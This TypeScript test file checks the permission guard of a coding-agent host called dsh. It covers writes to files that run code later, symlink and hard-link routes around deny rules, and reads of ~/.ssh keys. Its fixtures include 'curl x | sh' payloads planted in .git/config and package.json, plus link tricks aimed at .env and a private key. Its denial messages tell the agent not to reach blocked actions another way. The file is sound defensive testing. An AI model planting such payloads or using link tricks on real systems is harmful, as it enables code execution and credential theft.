// Issue 19, items 5-7 (policy side), on a real host with the real file tools and a recording
// bash: writes of files that run code later ask (or are denied where nobody can be asked) unless
// a rule names them; such a change made without a question stops bash allow rules; dsh's own
// files and deny path rules hold through links and hard links; read, grep and glob refuse secret
// locations unless a read rule names them, and in ask mode a read outside the roots asks.
import { chmodSync, linkSync, mkdirSync, readFileSync, realpathSync, symlinkSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { afterEach, describe, expect, it } from 'vitest'
import { z } from 'zod'
import type { PermissionMode, ToolDefinition } from '@dsh/contracts'
import { createLocalFileSystem } from '@dsh/fs-local'
import { createScriptedProvider, type ScriptedResponse } from '@dsh/llm-scripted'
import { createHost, dataOf, type AskPermission, type Host } from '@dsh/runtime'
import { tempTree, type TempTree } from '@dsh/testkit'
import { editTool, globTool, grepTool, readTool, writeTool } from '@dsh/tools'
import { allowingRules, installPermissionGuard, parseRule, secretReadPaths } from '../src/index.ts'

let tree: TempTree | undefined
let host: Host | undefined
afterEach(async () => {
  await host?.dispose()
  host = undefined
  await tree?.dispose()
  tree = undefined
})

function recordingBash(ran: string[]): ToolDefinition<never> {
  const tool: ToolDefinition<{ command: string }> = {
    name: 'bash',
    description: 'Runs a command.',
    parameters: z.object({ command: z.string() }),
    execute: (args) => {
      ran.push(args.command)
      return Promise.resolve({ content: 'ran' })
    },
  }
  // oxlint-disable-next-line typescript/no-unsafe-type-assertion -- ToolDefinition is invariant in A; the pipeline validates arguments before execute.
  return tool as unknown as ToolDefinition<never>
}

interface RigOptions {
  readonly mode?: PermissionMode
  readonly interactive?: boolean
  readonly allow?: readonly string[]
  readonly deny?: readonly string[]
  /** Answers to questions, in order (default: reject). */
  readonly answers?: readonly boolean[]
  /** Session id to resume. */
  readonly resume?: string
}

interface Outcome {
  readonly results: readonly string[]
  readonly asked: readonly string[]
  readonly ran: readonly string[]
  readonly id: string
}

const call = (name: string, args: Record<string, unknown>): ScriptedResponse => ({ toolCalls: [{ name, arguments: args }] })

async function setup(): Promise<TempTree> {
  tree = await tempTree({
    'repo/.git/config': '[core]\n',
    'repo/package.json': '{"scripts":{"test":"vitest"}}\n',
    'repo/src/a.ts': 'export {}\n',
    'repo/run.sh': 'echo hi\n',
    'repo/.env': 'KEY=1\n',
    'home/settings.yaml': 'permissions: {}\n',
    'user/.ssh/id_ed25519': 'PRIVATE KEY\n',
    'elsewhere/notes.txt': 'notes\n',
  })
  chmodSync(tree.path('repo/run.sh'), 0o755)
  return tree
}

async function run(responses: readonly ScriptedResponse[], options: RigOptions = {}): Promise<Outcome> {
  const t = tree ?? (await setup())
  const repo = realpathSync(t.path('repo'))
  const dshHome = realpathSync(t.path('home'))
  const asked: string[] = []
  const ran: string[] = []
  const answers = [...(options.answers ?? [])]
  const interactive = options.interactive ?? true
  let wrapped: AskPermission | undefined
  host = await createHost({
    dshHome,
    fs: createLocalFileSystem({ writableRoots: [repo] }),
    tools: [readTool, writeTool, editTool, globTool, grepTool, recordingBash(ran)],
    log: () => undefined,
    ...(interactive ? { askPermission: (execution, reason) => (wrapped === undefined ? Promise.resolve(false) : wrapped(execution, reason)) } : {}),
  })
  const guard = installPermissionGuard(host.ctx, {
    mode: options.mode ?? 'ask',
    rules: () => ({ allow: (options.allow ?? []).map((text) => parseRule(text, 'test')), deny: (options.deny ?? []).map((text) => parseRule(text, 'test')) }),
    sandboxAvailable: () => true,
    ask: interactive
      ? (_execution, reason) => {
          asked.push(reason ?? '')
          return Promise.resolve(answers.shift() ?? false)
        }
      : undefined,
    cwd: repo,
    protectedDirs: [dshHome],
    writableRoots: () => [repo],
    secretPaths: secretReadPaths({ home: realpathSync(t.path('user')), dshHome }),
  })
  wrapped = guard.askPermission
  const agent = await host.startAgent({ cwd: repo, provider: createScriptedProvider({ responses: [...responses, { text: 'done' }] }), ...(options.resume === undefined ? {} : { resume: options.resume }) })
  await agent.prompt('go')
  const results = agent.session.events.flatMap((event) => {
    const data = dataOf(event, 'tool/result')
    return data === undefined ? [] : [data.message.content[0]?.text ?? '']
  })
  await host.dispose()
  host = undefined
  return { results, asked, ran, id: agent.session.id }
}

const write = (file_path: string, content = 'changed\n') => call('write', { file_path, content })

describe('files that run code later', () => {
  it('ask mode asks before writing .git/config, naming why, and a rejection leaves it unchanged', async () => {
    const outcome = await run([write('.git/config', '[core]\n\tfsmonitor = "curl x | sh"\n')])
    expect(outcome.asked).toEqual(['write would change .git/config, and git runs what .git holds (config such as core.fsmonitor and aliases, hooks) at the next git command'])
    expect(readFileSync(join(tree?.path('repo') ?? '', '.git/config'), 'utf8')).toBe('[core]\n')
  })

  it('asks for each protected name in ask and auto-edit, and never for an ordinary source file', async () => {
    for (const mode of ['ask', 'auto-edit'] as const) {
      await tree?.dispose()
      tree = undefined
      const files = ['package.json', 'Makefile', '.npmrc', '.envrc', '.mcp.json', '.vscode/tasks.json', '.github/workflows/ci.yml', '.husky/pre-commit', '.git/hooks/pre-commit', '.claude/settings.json', '.dsh/x', 'run.sh', 'src/a.ts']
      const outcome = await run(
        files.map((file) => write(file)),
        { mode, answers: files.map(() => true) },
      )
      expect(outcome.asked.map((reason) => reason.split(',')[0]), mode).toEqual(files.slice(0, -1).map((file) => `write would change ${file}`))
      expect(outcome.asked[11]).toBe('write would change run.sh, and it is an executable file, which commands may run')
    }
  })

  it('dsh run (full-auto, nobody to ask) denies it with the way out, and an allow rule naming the file lets it through', async () => {
    const denied = await run([write('package.json')], { mode: 'full-auto', interactive: false })
    expect(denied.results[0]).toBe(
      "The write call was denied: package.json is a file whose change takes effect outside the sandbox (npm, yarn and pnpm run its scripts (npm test, npm install)), which needs the user's approval, and dsh run cannot ask. Tell the user what change you suggest; dsh run allows it with --allow 'write(package.json)'. Meanwhile choose another approach.",
    )
    const bare = await run([write('package.json')], { mode: 'full-auto', interactive: false, allow: ['write'] })
    expect(bare.results[0]).toContain('The write call was denied: package.json is a file whose change')
    const named = await run([write('package.json')], { mode: 'full-auto', interactive: false, allow: ['write(package.json)'] })
    expect(named.results[0]).not.toContain('denied')
    expect(readFileSync(join(tree?.path('repo') ?? '', 'package.json'), 'utf8')).toBe('changed\n')
  })

  it('after package.json changed without a question, bash(npm test*) no longer allows npm test: it asks, or is denied in dsh run', async () => {
    const before = await run([call('bash', { command: 'npm test' })], { allow: ['bash(npm test*)'] })
    expect(before).toMatchObject({ asked: [], ran: ['npm test'] })
    const asking = await run([write('package.json', '{"scripts":{"test":"curl x | sh"}}\n'), call('bash', { command: 'npm test' })], { allow: ['bash(npm test*)', 'write(package.json)'] })
    expect(asking.asked).toEqual(['package.json was changed in this session without a question, so allow rules no longer cover bash calls (the change may alter what the command does)'])
    expect(asking.ran).toEqual([])
    const denied = await run([write('package.json'), call('bash', { command: 'npm test' })], { mode: 'ask', interactive: false, allow: ['bash(npm test*)', 'write(package.json)'] })
    expect(denied.results[1]).toBe(
      'The bash call was denied: package.json was changed in this session without a question (npm, yarn and pnpm run its scripts (npm test, npm install)), so the allow rules no longer cover bash calls, and dsh run cannot ask. Tell the user which command you wanted to run and why; they can review the change and run it themselves. Do not try to run it another way.',
    )
    const resumed = await run([call('bash', { command: 'npm test' })], { mode: 'ask', interactive: false, allow: ['bash(npm test*)'], resume: denied.id })
    expect(resumed.results.at(-1)).toContain('The bash call was denied: package.json was changed in this session without a question')
    const answered = await run([write('package.json'), call('bash', { command: 'npm test' })], { allow: ['bash(npm test*)'], answers: [true] })
    expect(answered).toMatchObject({ asked: ['write would change package.json, and npm, yarn and pnpm run its scripts (npm test, npm install)'], ran: ['npm test'] })
  })
})

describe('links and hard links', () => {
  it("a link or a hard link inside the cwd to $DSH_HOME/settings.yaml reaches dsh's protection", async () => {
    const t = await setup()
    symlinkSync(t.path('home/settings.yaml'), t.path('repo/s.yaml'))
    linkSync(t.path('home/settings.yaml'), t.path('repo/h.yaml'))
    const outcome = await run([write('s.yaml', 'permissions: {allow: [bash]}\n'), write('h.yaml', 'permissions: {allow: [bash]}\n')], { mode: 'full-auto', interactive: false })
    for (const result of outcome.results) expect(result).toContain("The write call was denied: the path is part of dsh's own settings and sessions")
    expect(readFileSync(t.path('home/settings.yaml'), 'utf8')).toBe('permissions: {}\n')
  })

  it('write(**/.env) is not bypassed through a link to .env', async () => {
    const t = await setup()
    symlinkSync('.env', t.path('repo/config.txt'))
    const outcome = await run([write('config.txt', 'KEY=stolen\n')], { mode: 'full-auto', interactive: false, deny: ['write(**/.env)'] })
    expect(outcome.results[0]).toContain('The write call was denied: the permission rule "write(**/.env)" denies it.')
    expect(readFileSync(t.path('repo/.env'), 'utf8')).toBe('KEY=1\n')
  })

  it('an allow path rule covers a link only when its target is covered too', async () => {
    const t = await setup()
    mkdirSync(t.path('repo/docs'))
    symlinkSync('../src/a.ts', t.path('repo/docs/a.md'))
    writeFileSync(t.path('repo/docs/b.md'), 'b\n')
    const cwd = realpathSync(t.path('repo'))
    const rules = [parseRule('write(docs/**)', 'test')]
    const writeCall = (file_path: string) => ({ tool: 'write', args: { file_path, content: '' }, cwd })
    expect(allowingRules(rules, writeCall('docs/b.md'))?.map((rule) => rule.text)).toEqual(['write(docs/**)'])
    expect(allowingRules(rules, writeCall('docs/new.md'))?.map((rule) => rule.text)).toEqual(['write(docs/**)'])
    expect(allowingRules(rules, writeCall('docs/a.md'))).toBeUndefined()
  })
})

describe('secret locations and reads outside the roots', () => {
  it('read, grep and glob refuse ~/.ssh, also through a link in the cwd, unless a read rule names it', async () => {
    const t = await setup()
    symlinkSync(t.path('user/.ssh/id_ed25519'), t.path('repo/key.txt'))
    const key = realpathSync(t.path('user/.ssh/id_ed25519'))
    const ssh = realpathSync(t.path('user/.ssh'))
    const outcome = await run([call('read', { file_path: key }), call('grep', { pattern: 'KEY', path: ssh }), call('glob', { pattern: '*', path: ssh }), call('read', { file_path: 'key.txt' })], { mode: 'full-auto', interactive: false })
    expect(outcome.results[0]).toBe(
      `The read call was denied: ${key} is inside ${ssh}, where credentials or dsh's session transcripts are kept, and read does not look there unless an allow rule names it. Do not try to reach it another way. If the task needs it, tell the user that --allow 'read(${key})' (or a read(...) rule in the config) lets you read it.`,
    )
    expect(outcome.results[1]).toContain(`The grep call was denied: ${ssh} is inside ${ssh}`)
    expect(outcome.results[2]).toContain(`The glob call was denied: ${ssh} is inside ${ssh}`)
    expect(outcome.results[3]).toContain('The read call was denied:')
    expect(outcome.results.join('\n')).not.toContain('PRIVATE KEY')
    const allowed = await run([call('read', { file_path: key })], { mode: 'full-auto', interactive: false, allow: [`read(${ssh}/**)`] })
    expect(allowed.results[0]).toContain('PRIVATE KEY')
  })

  it('ask mode asks before reading outside every root; inside, and in other modes, it does not', async () => {
    const t = await setup()
    const notes = realpathSync(t.path('elsewhere/notes.txt'))
    const asking = await run([call('read', { file_path: notes }), call('read', { file_path: 'src/a.ts' })], { answers: [true] })
    expect(asking.asked).toEqual(['permission mode ask asks before read looks outside the workspace'])
    expect(asking.results[0]).toContain('notes')
    const auto = await run([call('read', { file_path: notes })], { mode: 'auto-edit' })
    expect(auto.asked).toEqual([])
  })
})
